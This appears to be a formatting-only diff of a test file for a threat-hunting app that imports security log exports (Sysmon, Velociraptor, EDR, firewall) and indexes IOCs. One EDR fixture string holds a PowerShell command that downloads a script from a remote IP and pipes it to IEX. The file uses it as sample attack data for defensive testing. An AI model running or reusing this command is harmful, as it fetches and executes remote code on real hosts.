@@ -51,7 +51,11 @@ interface Expected {
 /** The good fixtures, in import order; their columns, time range and file facts are in FIXTURE_PROFILES. */
 const GOOD_FIXTURES: Expected[] = [
   { file: "velociraptor-netstat.csv", sourceTool: "velociraptor", indexed: { "Fqdn hostname": 1, "Laddr.IP ip": 3, "Raddr.IP ip": 5 } },
-  { file: "sysmon-utf16le.csv", sourceTool: "sysmon", indexed: { "Computer domain": 1, "DestinationHostname domain": 2, "DestinationIp ip": 2, "MD5 hash_md5": 3, "SHA256 hash_sha256": 3 } },
+  {
+    file: "sysmon-utf16le.csv",
+    sourceTool: "sysmon",
+    indexed: { "Computer domain": 1, "DestinationHostname domain": 2, "DestinationIp ip": 2, "MD5 hash_md5": 3, "SHA256 hash_sha256": 3 },
+  },
   { file: "proxy-semicolon.csv", sourceTool: null, indexed: { "Client IP ip": 3, "URL url": 5 } },
   { file: "edr-process-multiline.csv", sourceTool: null, indexed: { "host hostname": 2, "sha1 hash_sha1": 4 } },
   { file: "ragged-firewall.csv", sourceTool: null, indexed: { "dst_ip ip": 3, "src_ip ip": 3 } },
@@ -76,10 +80,17 @@ beforeAll(async () => {
   database = await openTestDatabase();
   api = await createTestApi(database);
   services = createServices(database);
-  ({ createHunt: { id: huntId } } = await api.data(CREATE_HUNT, { name: "Operation Nightfall" }));
+  ({
+    createHunt: { id: huntId },
+  } = await api.data(CREATE_HUNT, { name: "Operation Nightfall" }));
   for (const { file, sourceTool } of GOOD_FIXTURES) {
     if (SENT_AS_BYTES.has(file)) {
-      const { dataset, paddedRows, extendedRows } = await services.ingest.importCsv({ huntId, filename: file, sourceTool, source: createReadStream(fixturePath(file)) });
+      const { dataset, paddedRows, extendedRows } = await services.ingest.importCsv({
+        huntId,
+        filename: file,
+        sourceTool,
+        source: createReadStream(fixturePath(file)),
+      });
       imported.set(file, { paddedRows, extendedRows, dataset: { id: dataset.id, rowCount: dataset.rowCount } });
     } else {
       const input = { huntId, filename: file, sourceTool, content: readFileSync(fixturePath(file), "utf8") };
@@ -91,29 +102,37 @@ afterAll(() => database.close());
 
 const idOf = (file: string) => imported.get(file)!.dataset.id;
 
-async function rowsOf(file: string): Promise<{ totalCount: number; nodes: Array<{ rowIndex: number; data: Record<string, string>; normalizedData: Record<string, string> }> }> {
+async function rowsOf(
+  file: string,
+): Promise<{
+  totalCount: number;
+  nodes: Array<{ rowIndex: number; data: Record<string, string>; normalizedData: Record<string, string> }>;
+}> {
   return (await api.data(ROWS, { id: idOf(file) })).dataset.rows;
 }
 
 describe("importDataset on every good fixture", () => {
-  it.each(GOOD_FIXTURES)("stores $file with its exact column types, canonical names, IOC columns, time range and file facts", async (expected) => {
-    const { dataset } = await api.data(DATASET, { id: idOf(expected.file) });
-    expect(dataset).toEqual({
-      id: idOf(expected.file),
-      name: expected.file,
-      filename: expected.file,
-      sourceTool: expected.sourceTool,
-      ...storedProfile(expected.file),
-      fileSizeBytes: sizeOf(expected.file),
-      hunt: { id: huntId },
-    });
-    const { paddedRows, extendedRows, rowCount } = FIXTURE_PROFILES[expected.file];
-    expect(imported.get(expected.file)).toEqual({
-      paddedRows,
-      extendedRows,
-      dataset: { id: dataset.id, rowCount },
-    });
-  });
+  it.each(GOOD_FIXTURES)(
+    "stores $file with its exact column types, canonical names, IOC columns, time range and file facts",
+    async (expected) => {
+      const { dataset } = await api.data(DATASET, { id: idOf(expected.file) });
+      expect(dataset).toEqual({
+        id: idOf(expected.file),
+        name: expected.file,
+        filename: expected.file,
+        sourceTool: expected.sourceTool,
+        ...storedProfile(expected.file),
+        fileSizeBytes: sizeOf(expected.file),
+        hunt: { id: huntId },
+      });
+      const { paddedRows, extendedRows, rowCount } = FIXTURE_PROFILES[expected.file];
+      expect(imported.get(expected.file)).toEqual({
+        paddedRows,
+        extendedRows,
+        dataset: { id: dataset.id, rowCount },
+      });
+    },
+  );
 
   it.each(GOOD_FIXTURES)("stores every row of $file in file order, and an index entry per distinct IOC value", async (expected) => {
     const rows = await rowsOf(expected.file);
@@ -141,16 +160,39 @@ describe("stored rows", () => {
     const row = (await rowsOf("velociraptor-netstat.csv")).nodes[4];
     expect(row.data).toEqual(NETSTAT_ROW_4.data);
     // toEqual ignores key order; the stored JSON must keep the file's column order.
-    expect(Object.keys(row.data)).toEqual(["Pid", "Name", "Family", "Type", "Status", "Laddr.IP", "Laddr.Port", "Raddr.IP", "Raddr.Port", "Timestamp", "Fqdn"]);
+    expect(Object.keys(row.data)).toEqual([
+      "Pid",
+      "Name",
+      "Family",
+      "Type",
+      "Status",
+      "Laddr.IP",
+      "Laddr.Port",
+      "Raddr.IP",
+      "Raddr.Port",
+      "Timestamp",
+      "Fqdn",
+    ]);
     expect(row.normalizedData).toEqual(NETSTAT_ROW_4.normalized);
     expect(Object.keys(row.normalizedData)).toEqual([
-      "pid", "process_name", "family", "type", "connection_state", "src_ip", "src_port", "dst_ip", "dst_port", "timestamp", "hostname",
+      "pid",
+      "process_name",
+      "family",
+      "type",
+      "connection_state",
+      "src_ip",
+      "src_port",
+      "dst_ip",
+      "dst_port",
+      "timestamp",
+      "hostname",
     ]);
   });
 
   it("keeps quoted fields with line breaks, escaped quotes, commas and backslashes intact", async () => {
     const { nodes } = await rowsOf("edr-process-multiline.csv");
-    const launcher = "powershell.exe -NoProfile -Command \"$c = New-Object Net.WebClient\n$c.DownloadString('http://185.220.101.34:8443/a.ps1') | IEX\"";
+    const launcher =
+      "powershell.exe -NoProfile -Command \"$c = New-Object Net.WebClient\n$c.DownloadString('http://185.220.101.34:8443/a.ps1') | IEX\"";
     expect(nodes[0].data.cmdline).toBe(launcher);
     expect(nodes[1].data).toEqual({
       timestamp: "2024-03-12 09:22:03.88",
@@ -180,8 +222,22 @@ describe("stored rows", () => {
   it("stores a long row with its extra cells and a short row padded to the header", async () => {
     const { nodes } = await rowsOf("ragged-firewall.csv");
     expect(nodes[2].data).toEqual(RAGGED_FIREWALL_ROW_2);
-    expect(nodes[3].data).toEqual({ timestamp: "2024-03-12T09:22:11Z", src_ip: "10.20.30.57", dst_ip: "", dst_port: "", action: "", message: "" });
-    expect(nodes[3].normalizedData).toEqual({ timestamp: "2024-03-12T09:22:11Z", src_ip: "10.20.30.57", dst_ip: "", dst_port: "", event_type: "", description: "" });
+    expect(nodes[3].data).toEqual({
+      timestamp: "2024-03-12T09:22:11Z",
+      src_ip: "10.20.30.57",
+      dst_ip: "",
+      dst_port: "",
+      action: "",
+      message: "",
+    });
+    expect(nodes[3].normalizedData).toEqual({
+      timestamp: "2024-03-12T09:22:11Z",
+      src_ip: "10.20.30.57",
+      dst_ip: "",
+      dst_port: "",
+      event_type: "",
+      description: "",
+    });
     expect(Object.keys(nodes[4].data)).toEqual(["timestamp", "src_ip", "dst_ip", "dst_port", "action", "message", "extra_1"]);
     expect(nodes[4].normalizedData).toMatchObject({ description: "dns", extra_1: " udp" });
   });
@@ -217,14 +273,33 @@ describe("stored rows", () => {
 
   it("does not make the byte order mark part of the first column name", async () => {
     const { nodes } = await rowsOf("proxy-semicolon.csv");
-    expect(Object.keys(nodes[0].data)).toEqual(["Time", "Client IP", "Username", "URL", "HTTP Status", "Bytes", "Category", "Action", "Duration"]);
+    expect(Object.keys(nodes[0].data)).toEqual([
+      "Time",
+      "Client IP",
+      "Username",
+      "URL",
+      "HTTP Status",
+      "Bytes",
+      "Category",
+      "Action",
+      "Duration",
+    ]);
     expect(nodes[0].data).toMatchObject({ Time: "13/03/2024 08:01:17", Username: "CORP\\jdoe", Duration: "0,21" });
   });
 });
 
 describe("the occurrence index", () => {
   // Every indexed column of the fixtures is an IOC column.
-  const entry = (column: string, type: string, value: string, occurrences: number, firstRowIndex: number, firstSeen: string | null, lastSeen = firstSeen, raw = value) => ({
+  const entry = (
+    column: string,
+    type: string,
+    value: string,
+    occurrences: number,
+    firstRowIndex: number,
+    firstSeen: string | null,
+    lastSeen = firstSeen,
+    raw = value,
+  ) => ({
     huntId,
     column,
     type,
@@ -240,7 +315,16 @@ describe("the occurrence index", () => {
   it("holds every value of the netstat export's IP and host-name columns with counts, first row and time span", async () => {
     expect(await occurrencesOf(database.dataSource, idOf("velociraptor-netstat.csv"))).toEqual([
       // Host names are compared upper-cased, as ThreatHunt does; the raw value is kept for display.
-      entry("Fqdn", "hostname", "WS-FIN-042.CORP.EXAMPLE.COM", 8, 0, "2024-03-12T08:02:11.000Z", "2024-03-12T09:21:56.000Z", "WS-FIN-042.corp.example.com"),
+      entry(
+        "Fqdn",
+        "hostname",
+        "WS-FIN-042.CORP.EXAMPLE.COM",
+        8,
+        0,
+        "2024-03-12T08:02:11.000Z",
+        "2024-03-12T09:21:56.000Z",
+        "WS-FIN-042.corp.example.com",
+      ),
       entry("Laddr.IP", "ip", "0.0.0.0", 3, 0, "2024-03-12T09:14:03.000Z", "2024-03-12T09:14:04.000Z"),
       // Rows 3-6; its earliest time is on row 6 (08:02:11), its latest on row 5.
       entry("Laddr.IP", "ip", "10.20.30.42", 4, 3, "2024-03-12T08:02:11.000Z", "2024-03-12T09:21:56.000Z"),
@@ -287,7 +371,9 @@ describe("the occurrence index", () => {
       entry("MD5", "hash_md5", "a4563e3b0d574c1c9b05ee6d96fe2979", 1, 2, null, null, "A4563E3B0D574C1C9B05EE6D96FE2979"),
     ]);
     const osquery = await occurrencesOf(database.dataSource, idOf("osquery-processes.tsv"));
-    expect(osquery.find((o) => o.column === "hostname")).toEqual(entry("hostname", "hostname", "MAC-OPS-07", 5, 0, null, null, "mac-ops-07"));
+    expect(osquery.find((o) => o.column === "hostname")).toEqual(
+      entry("hostname", "hostname", "MAC-OPS-07", 5, 0, null, null, "mac-ops-07"),
+    );
     const logons = await occurrencesOf(database.dataSource, idOf("logons-cp1252.csv"));
     expect(logons).toEqual([
       entry("ComputerName", "hostname", "SRV-FICHIERS-01", 4, 0, "2024-03-12T07:58:03.000Z", "2024-03-12T08:13:05.000Z"),
@@ -325,10 +411,25 @@ describe("importDataset on a bad file", () => {
   const oversized = header + goodRows + `ws-big,${"A".repeat(MIB + 1)}\nws-after,id\n`;
 
   const BAD_FILES = [
-    { file: "empty.csv", content: () => readFileSync(fixturePath("empty.csv"), "utf8"), line: undefined, reason: "file is empty: no header row" },
-    { file: "header-only.csv", content: () => readFileSync(fixturePath("header-only.csv"), "utf8"), line: 1, reason: "header row but no data rows" },
+    {
+      file: "empty.csv",
+      content: () => readFileSync(fixturePath("empty.csv"), "utf8"),
+      line: undefined,
+      reason: "file is empty: no header row",
+    },
+    {
+      file: "header-only.csv",
+      content: () => readFileSync(fixturePath("header-only.csv"), "utf8"),
+      line: 1,
+      reason: "header row but no data rows",
+    },
     // Read as text the PNG's NUL bytes stay: it is still binary.
-    { file: "binary.png", content: () => readFileSync(fixturePath("binary.png"), "utf8"), line: undefined, reason: "file looks binary (NUL or control bytes), not a CSV export" },
+    {
+      file: "binary.png",
+      content: () => readFileSync(fixturePath("binary.png"), "utf8"),
+      line: undefined,
+      reason: "file looks binary (NUL or control bytes), not a CSV export",
+    },
     {
       file: "malformed-quoting.csv",
       content: () => readFileSync(fixturePath("malformed-quoting.csv"), "utf8"),
@@ -343,19 +444,24 @@ describe("importDataset on a bad file", () => {
     before = await storedCounts(database.dataSource);
   });
 
-  it.each(BAD_FILES)("refuses $file with BAD_USER_INPUT naming the file, the line and the reason, and stores nothing", async ({ file, content, line, reason }) => {
-    const result = await api.run(IMPORT_DATASET, { input: { huntId, filename: file, content: content() } });
-    expect(result.data).toBeNull();
-    expect(result.errors).toHaveLength(1);
-    const [error] = result.errors!;
-    expect(error.message).toBe(line === undefined ? `${file}: ${reason}` : `${file} line ${line}: ${reason}`);
-    expect(error.extensions).toEqual({ code: "BAD_USER_INPUT", file, line, reason });
-    expect(error.path).toEqual(["importDataset"]);
-    expect(await storedCounts(database.dataSource)).toEqual(before);
-  });
+  it.each(BAD_FILES)(
+    "refuses $file with BAD_USER_INPUT naming the file, the line and the reason, and stores nothing",
+    async ({ file, content, line, reason }) => {
+      const result = await api.run(IMPORT_DATASET, { input: { huntId, filename: file, content: content() } });
+      expect(result.data).toBeNull();
+      expect(result.errors).toHaveLength(1);
+      const [error] = result.errors!;
+      expect(error.message).toBe(line === undefined ? `${file}: ${reason}` : `${file} line ${line}: ${reason}`);
+      expect(error.extensions).toEqual({ code: "BAD_USER_INPUT", file, line, reason });
+      expect(error.path).toEqual(["importDataset"]);
+      expect(await storedCounts(database.dataSource)).toEqual(before);
+    },
+  );
 
   it("refuses an unknown hunt with NOT_FOUND and stores nothing", async () => {
-    const result = await api.run(IMPORT_DATASET, { input: { huntId: UNKNOWN_HUNT, filename: "netstat.csv", content: "host,ip\nws1,10.0.0.1\n" } });
+    const result = await api.run(IMPORT_DATASET, {
+      input: { huntId: UNKNOWN_HUNT, filename: "netstat.csv", content: "host,ip\nws1,10.0.0.1\n" },
+    });
     expect(result.data).toBeNull();
     expect(result.errors?.map((e) => [e.message, e.extensions?.code])).toEqual([[`No hunt with id '${UNKNOWN_HUNT}'`, "NOT_FOUND"]]);
     expect(await storedCounts(database.dataSource)).toEqual(before);
@@ -365,7 +471,9 @@ describe("importDataset on a bad file", () => {
     { input: { huntId: "nope" }, message: "Invalid input: huntId must be a 32-character lowercase hex id, got 'nope'" },
     { input: { filename: "   " }, message: "Invalid input: filename must not be blank" },
   ])("refuses input that fails validation ($message) before reading the content", async ({ input, message }) => {
-    const result = await api.run(IMPORT_DATASET, { input: { huntId, filename: "netstat.csv", content: "host,ip\nws1,10.0.0.1\n", ...input } });
+    const result = await api.run(IMPORT_DATASET, {
+      input: { huntId, filename: "netstat.csv", content: "host,ip\nws1,10.0.0.1\n", ...input },
+    });
     expect(result.data).toBeNull();
     expect(result.errors?.map((e) => [e.message, e.extensions?.code])).toEqual([[message, "BAD_USER_INPUT"]]);
     expect(await storedCounts(database.dataSource)).toEqual(before);
@@ -376,7 +484,10 @@ describe("importDataset on a bad file", () => {
     const result = await api.run(IMPORT_DATASET, { input: { huntId, filename: "big.csv", content } });
     expect(result.data).toBeNull();
     expect(result.errors?.map((e) => [e.message, e.extensions])).toEqual([
-      [`content is ${5 * MIB + 1} bytes; inline CSV is limited to ${5 * MIB} bytes: upload larger files to /hunts/${huntId}/datasets`, { code: "BAD_USER_INPUT", field: "content" }],
+      [
+        `content is ${5 * MIB + 1} bytes; inline CSV is limited to ${5 * MIB} bytes: upload larger files to /hunts/${huntId}/datasets`,
+        { code: "BAD_USER_INPUT", field: "content" },
+      ],
     ]);
     expect(await storedCounts(database.dataSource)).toEqual(before);
   });
